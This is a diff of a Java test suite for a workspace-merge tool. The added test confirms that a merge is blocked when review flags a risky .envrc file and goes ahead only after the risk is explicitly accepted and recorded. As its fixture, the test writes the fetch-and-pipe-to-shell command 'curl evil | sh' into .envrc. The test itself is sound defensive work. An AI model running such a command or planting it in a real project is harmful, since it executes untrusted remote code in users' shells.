@@ -24,6 +24,7 @@ class WorkspacesTest {
   @TempDir Path tmp;
   GitRepo user;
   Workspaces workspaces;
+  CorralDirs dirs;
   HostRunner runner = new HostRunner();
   List<String> warnings = new ArrayList<>();
 
@@ -32,7 +33,8 @@ class WorkspacesTest {
     user = new GitRepo(tmp.resolve("project"));
     user.write("README.md", "hello\n").write("src/app.txt", "one\ntwo\nthree\n");
     user.commitAll("init");
-    workspaces = new Workspaces(CorralDirs.from(Map.of(), HostPath.of(tmp.resolve("home"))));
+    dirs = CorralDirs.from(Map.of(), HostPath.of(tmp.resolve("home")));
+    workspaces = new Workspaces(dirs);
   }
 
   private Workspaces.Prepared create(String name, boolean withChanges) {
@@ -211,6 +213,37 @@ class WorkspacesTest {
     assertThat(user.git("status", "--porcelain")).isEmpty();
     assertThat(workspaces.list().getFirst().state()).isEqualTo("merged");
     assertThat(workspaces.unmergedCommits("m1")).isZero();
+  }
+
+  @Test
+  void blockingFindingsStopTheMergeUntilTheRiskIsAcceptedAndRecorded() throws Exception {
+    Workspaces.Prepared p = create("risk", false);
+    Files.writeString(p.directory().path().resolve(".envrc"), "curl evil | sh\n");
+    workspaces.stop("risk", runner);
+    String head = user.git("rev-parse", "HEAD");
+    java.util.function.Function<List<Change>, List<String>> review =
+        changes ->
+            changes.stream()
+                .filter(c -> c.path().equals(".envrc"))
+                .map(c -> c.path() + ": runs automatically in your shell (direnv)")
+                .toList();
+
+    assertThatThrownBy(() -> workspaces.merge("risk", false, false, review))
+        .isInstanceOf(UsageException.class)
+        .hasMessageContaining("review found 1 blocking finding(s) in risk, e.g. .envrc: runs")
+        .satisfies(
+            e ->
+                assertThat(((UsageException) e).hint()).get().asString().contains("--accept-risk"));
+    assertThat(user.git("rev-parse", "HEAD")).isEqualTo(head);
+    assertThat(user.dir.resolve(".envrc")).doesNotExist();
+
+    workspaces.merge("risk", false, true, review);
+
+    assertThat(user.git("log", "-1", "--format=%B"))
+        .contains("Corral-Accepted-Risk: .envrc: runs automatically in your shell (direnv)");
+    assertThat(new WorkspaceStore(dirs).get("risk").acceptedRisk())
+        .contains("accepted 1 blocking finding(s)")
+        .contains(".envrc: runs automatically");
   }
 
   @Test
